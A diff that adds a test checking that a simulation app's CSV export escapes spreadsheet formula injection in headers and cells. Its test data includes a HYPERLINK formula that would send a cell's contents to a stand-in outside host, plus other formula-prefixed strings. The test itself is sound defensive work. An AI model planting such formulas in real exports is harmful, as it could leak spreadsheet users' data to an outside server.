@@ -159,6 +159,19 @@ def test_text_with_commas_and_quotes_survives_csv(user: User) -> None:
     assert [row["x"] for row in csv.DictReader(io.StringIO(csv_bytes.decode()))] == ['a, "b"', ""]
 
 
+def test_no_cell_of_a_csv_is_a_formula(user: User) -> None:
+    """Whoever opens a result in a spreadsheet is seldom the model's author."""
+    formula = '=HYPERLINK("https://example.com/?" & B2)'
+    data = np.array([(0.0, n, 1.0) for n in range(7)], dtype=[("time", "f8"), ("x", "i8"), (formula, "f8")])
+    texts = [formula, "@SUM(A1)", "+1+1", "-2+3", "\t=1", "-5", "+1.5e3"]
+    columns: list[dict[str, Any]] = [{"name": "time"}, {"name": "x", "texts": texts}, {"name": formula}]
+    simulation = stored(user, data, columns)
+    csv_bytes = content(client_of(user).get(f"/api/v1/simulations/{simulation.public_id}/result.csv"))
+    header, *rows = csv.reader(io.StringIO(csv_bytes.decode(), newline=""))
+    assert header == ["time", "x", f"'{formula}"]
+    assert [row[1] for row in rows] == [f"'{formula}", "'@SUM(A1)", "'+1+1", "'-2+3", "'\t=1", "-5", "+1.5e3"]
+
+
 def test_run_of_texts_alone_has_a_page_that_says_when_each_began(user: User) -> None:
     rows = [(0.0, 0), (0.5, 0), (1.0, 1), (1.5, 0), (2.0, 2)]
     data = np.array(rows, dtype=[("time", "f8"), ("x", "i8")])
